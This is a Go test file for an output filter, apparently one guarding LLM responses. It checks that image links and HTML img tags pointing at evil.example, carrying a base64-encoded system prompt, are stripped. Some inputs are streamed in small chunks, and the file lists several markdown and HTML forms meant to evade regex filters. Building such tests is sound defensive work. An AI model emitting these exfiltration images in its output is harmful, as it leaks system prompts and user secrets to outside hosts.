package outputguard

import (
	"fmt"
	"strings"
	"testing"
)

// Exfiltration images in the CommonMark forms the regular expressions
// miss, raw HTML images and data-carrying URLs, whole and streamed in
// chunks of 1 to 9 bytes: the host evil.example must not reach the client
// as something that loads.
func TestImageEvasions(t *testing.T) {
	const u = "https://evil.example/c?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQ"
	cases := []struct{ name, text string }{
		{"single-quoted title", "Done. ![chart](" + u + " 'chart') end"},
		{"parenthesised title", "Done. ![chart](" + u + " (chart)) end"},
		{"nested brackets in alt", "Done. ![a [b] c](" + u + ") end"},
		{"newline in alt", "Done. ![a\nb](" + u + ") end"},
		{"reference in blockquote", "See ![x][r]\n\n> [r]: " + u + "\n\nend"},
		{"reference in list item", "See ![x][r]\n\n- [r]: " + u + "\n\nend"},
		{"html img", `Done. <img src="` + u + `" alt="x"> end`},
		{"html img single quotes upper case", `Done. <IMG SRC='` + u + `'> end`},
	}
	l := provisioned(t, Config{})
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			check := func(how, got string) {
				t.Helper()
				if strings.Contains(got, "evil.example") {
					t.Errorf("%s: image passed: %q", how, got)
				}
			}
			got, d := whole(t, l, newTx(), c.text)
			check("whole", got)
			if len(d.Findings) == 0 {
				t.Error("whole: no finding")
			}
			for n := 1; n <= 9; n++ {
				got, _ := streamAll(t, l, newTx(), chunked(c.text, n))
				check(fmt.Sprintf("stream/%d", n), got)
			}
		})
	}
	// allowed hosts and plain prose pass unchanged
	la := provisioned(t, Config{Links: LinksConfig{AllowedHosts: []string{"docs.example.com"}}})
	for _, ok := range []string{
		"![diagram](https://docs.example.com/a.png 'title')",
		`<img src="https://docs.example.com/a.png">`,
		"Use a < b and c > d in the formula.",
	} {
		if got, d := whole(t, la, newTx(), ok); got != ok || len(d.Findings) > 0 {
			t.Errorf("allowed %q: %q %+v", ok, got, d.Findings)
		}
	}
	// a bare URL carrying data is flagged (links: flag), removed on request
	bare := "Visit " + u + " now"
	if got, d := whole(t, l, newTx(), bare); got != bare || len(d.Findings) == 0 {
		t.Errorf("data URL (flag): %q %+v", got, d.Findings)
	}
	lr := provisioned(t, Config{Links: LinksConfig{Links: "remove"}})
	if got, _ := whole(t, lr, newTx(), bare); strings.Contains(got, "evil.example") {
		t.Errorf("data URL (remove): %q", got)
	}
}
